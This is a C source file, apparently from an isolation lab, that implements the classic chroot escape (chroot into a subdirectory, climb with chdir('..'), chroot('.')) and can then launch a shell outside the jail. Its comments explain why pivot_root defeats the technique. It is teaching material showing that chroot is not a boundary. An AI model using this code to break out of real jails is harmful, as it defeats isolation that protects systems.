/* isolab-chroot-escape: the classic way out of a chroot, to show why chroot is not a boundary.
 *
 *   isolab-chroot-escape [--json] [PROGRAM [ARG...]]
 *
 * chroot(2) changes one thing: where a path starting with "/" begins, and where ".." stops
 * climbing. It does not move the working directory. So a process that may call chroot
 * (CAP_SYS_CHROOT):
 *   1. makes a directory and chroots into it: its root moves down, its working directory stays
 *      where it was, which is now *outside* its root;
 *   2. climbs with chdir(".."): ".." only stops at the process's root, which is no longer above
 *      it, so it climbs to the top of the mount namespace;
 *   3. chroots there: "/" is now the real root of the namespace.
 * Under pivot_root with the old root detached, the top of the mount namespace IS the container's
 * root: the climb ends where it started, and there is nothing else to find.
 *
 * It prints where "/" was before and after, what "/" holds and /etc/hostname; with PROGRAM, it
 * then runs PROGRAM from the new "/" (e.g. /bin/sh: a shell outside the jail). Static, so it runs
 * in any root filesystem. --json prints one object for tests:
 *   {"escaped":true,"before":{"dev":N,"ino":N},"after":{...},"climbed":N,"entries":[...],"hostname":"..."}
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_CLIMB 4096
#define MAX_ENTRIES 256

static bool json;

static void put_string(const char *s)
{
	putchar('"');
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		if (*p == '"' || *p == '\\')
			printf("\\%c", *p);
		else if (*p < 0x20 || *p == 0x7f)
			printf("\\u%04x", *p);
		else
			putchar(*p);
	}
	putchar('"');
}

static void fail(const char *what)
{
	int err = errno;
	if (json) {
		fputs("{\"escaped\":false,\"error\":", stdout);
		char message[512];
		snprintf(message, sizeof(message), "%s: %s", what, strerror(err));
		put_string(message);
		puts("}");
	} else {
		fprintf(stderr, "isolab-chroot-escape: %s: %s\n", what, strerror(err));
		if (err == EPERM)
			fputs("  (chroot needs CAP_SYS_CHROOT: without it, there is no way out this way)\n", stderr);
	}
	exit(1);
}

static int by_name(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* What "/" holds, sorted. */
static int list_root(char *names[], int max)
{
	int count = 0;
	DIR *dir = opendir("/");
	if (dir == NULL)
		fail("opendir(\"/\")");
	struct dirent *entry;
	while ((entry = readdir(dir)) != NULL && count < max)
		if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
			names[count++] = strdup(entry->d_name);
	closedir(dir);
	qsort(names, (size_t)count, sizeof(names[0]), by_name);
	return count;
}

static void read_hostname_file(char *buf, size_t size)
{
	buf[0] = '\0';
	int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, size - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
}

int main(int argc, char **argv)
{
	int arg = 1;
	if (arg < argc && strcmp(argv[arg], "--json") == 0) {
		json = true;
		arg++;
	}
	struct stat before;
	if (stat("/", &before) < 0)
		fail("stat(\"/\")");

	/* 1. A fresh directory, and chroot into it. Our working directory ("/") is now above our root. */
	if (chdir("/") < 0)
		fail("chdir(\"/\")");
	/* Any directory below our root would do; a new one leaves the tree as it was. On a read-only
	 * root, /tmp itself serves. */
	char jail[] = "/tmp/.isolab-escape-XXXXXX";
	bool made = mkdtemp(jail) != NULL;
	if (!made)
		strcpy(jail, "/tmp");
	if (chroot(jail) < 0) {
		int err = errno;
		if (made)
			rmdir(jail);
		errno = err;
		fail("chroot(a directory below \"/\")");
	}
	/* Tidy up through the working directory, which still sees the old tree: "tmp/.isolab-...". */
	if (made && rmdir(jail + 1) < 0)
		fail("rmdir(the new directory)");

	/* 2. Climb until ".." is "." itself: the top of this mount namespace. */
	int climbed = 0;
	for (; climbed < MAX_CLIMB; climbed++) {
		struct stat here;
		struct stat parent;
		if (stat(".", &here) < 0 || stat("..", &parent) < 0)
			fail("stat(\"..\")");
		if (here.st_dev == parent.st_dev && here.st_ino == parent.st_ino)
			break;
		if (chdir("..") < 0)
			fail("chdir(\"..\")");
	}

	/* 3. Make it our root. */
	if (chroot(".") < 0)
		fail("chroot(\".\")");
	if (chdir("/") < 0)
		fail("chdir(\"/\")");

	struct stat after;
	if (stat("/", &after) < 0)
		fail("stat(\"/\")");
	bool escaped = after.st_dev != before.st_dev || after.st_ino != before.st_ino;
	char *names[MAX_ENTRIES];
	int count = list_root(names, MAX_ENTRIES);
	char hostname[256];
	read_hostname_file(hostname, sizeof(hostname));

	if (json) {
		printf("{\"escaped\":%s,\"before\":{\"dev\":%llu,\"ino\":%llu},\"after\":{\"dev\":%llu,\"ino\":%llu},"
		       "\"climbed\":%d,\"entries\":[",
		       escaped ? "true" : "false", (unsigned long long)before.st_dev, (unsigned long long)before.st_ino,
		       (unsigned long long)after.st_dev, (unsigned long long)after.st_ino, climbed);
		for (int i = 0; i < count; i++) {
			if (i > 0)
				putchar(',');
			put_string(names[i]);
		}
		fputs("],\"hostname\":", stdout);
		put_string(hostname);
		puts("}");
	} else {
		printf("\"/\" before: device %llu, inode %llu\n", (unsigned long long)before.st_dev,
		       (unsigned long long)before.st_ino);
		printf("mkdir + chroot into it, then chdir(\"..\") %d times, then chroot(\".\")\n", climbed);
		printf("\"/\" after:  device %llu, inode %llu: %s\n", (unsigned long long)after.st_dev,
		       (unsigned long long)after.st_ino,
		       escaped ? "ESCAPED: this is the root of the mount namespace, outside the chroot"
			       : "still inside: the top of this mount namespace is the container's own root");
		fputs("\"/\" holds:", stdout);
		for (int i = 0; i < count; i++)
			printf(" %s", names[i]);
		printf("\n/etc/hostname: %s\n", hostname[0] ? hostname : "(none)");
	}
	fflush(stdout);

	if (arg < argc) {
		execvp(argv[arg], &argv[arg]);
		fail("execvp(PROGRAM)");
	}
	return 0;
}
